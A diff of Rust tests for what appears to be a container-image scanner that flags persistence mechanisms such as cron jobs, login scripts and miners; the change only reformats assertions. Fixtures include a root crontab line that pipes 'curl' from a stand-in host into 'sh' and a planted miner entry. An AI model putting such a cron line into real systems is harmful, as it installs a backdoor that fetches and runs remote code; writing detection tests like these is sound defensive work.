@@ -4,10 +4,18 @@ use super::*;
 fn a_crontab_is_possible_until_its_scheduler_is_started() {
     let table = "* * * * * root curl -s http://192.0.2.5/c | sh\n";
     let idle = Fixture::new().file("etc/cron.d/x", table, 0o644).start(&["redis-server"], &[]).follow();
-    assert!(lines(&idle).contains(&"scheduled may run sh <- curl from http://192.0.2.5/c".to_owned()), "{:?}", lines(&idle));
+    assert!(
+        lines(&idle).contains(&"scheduled may run sh <- curl from http://192.0.2.5/c".to_owned()),
+        "{:?}",
+        lines(&idle)
+    );
     assert_eq!(reach(&idle, "etc/cron.d/x"), Some(Reach::Reachable));
     let busy = Fixture::new().file("etc/cron.d/x", table, 0o644).start(&["cron", "-f"], &[]).follow();
-    assert!(lines(&busy).contains(&"scheduled run sh <- curl from http://192.0.2.5/c".to_owned()), "{:?}", lines(&busy));
+    assert!(
+        lines(&busy).contains(&"scheduled run sh <- curl from http://192.0.2.5/c".to_owned()),
+        "{:?}",
+        lines(&busy)
+    );
     assert_eq!(reach(&busy, "etc/cron.d/x"), Some(Reach::Starts));
     let first = busy.behaviours.iter().find(|b| b.phase == Phase::Scheduled).unwrap();
     assert_eq!(first.because[0].to_string(), "/etc/cron.d/x:1");
@@ -43,7 +51,11 @@ fn units_profiles_and_init_scripts_are_read() {
         .start(&["redis-server"], &[])
         .follow();
     let all = lines(&path);
-    for wanted in ["scheduled may run /usr/bin/miner -o x", "login may run curl http://192.0.2.6/p", "scheduled may run zz"] {
+    for wanted in [
+        "scheduled may run /usr/bin/miner -o x",
+        "login may run curl http://192.0.2.6/p",
+        "scheduled may run zz",
+    ] {
         assert!(all.iter().any(|l| l == wanted), "{wanted}: {all:#?}");
     }
     assert_eq!(reach(&path, "usr/bin/miner"), Some(Reach::Reachable));
@@ -65,7 +77,9 @@ fn preloaded_libraries_start_with_every_process() {
 #[test]
 fn history_health_and_triggers_have_their_phases() {
     let mut fixture = Fixture::new().start(&["redis-server"], &[]);
-    fixture.config.healthcheck = Some(lazaret_model::Healthcheck { test: vec!["CMD-SHELL".into(), "curl -f http://localhost/".into()] });
+    fixture.config.healthcheck = Some(lazaret_model::Healthcheck {
+        test: vec!["CMD-SHELL".into(), "curl -f http://localhost/".into()],
+    });
     fixture.config.on_build = vec!["RUN make".into(), "COPY . /app".into()];
     let step = |text: &str| lazaret_model::HistoryStep { created_by: text.into(), ..Default::default() };
     fixture.config.history = vec![
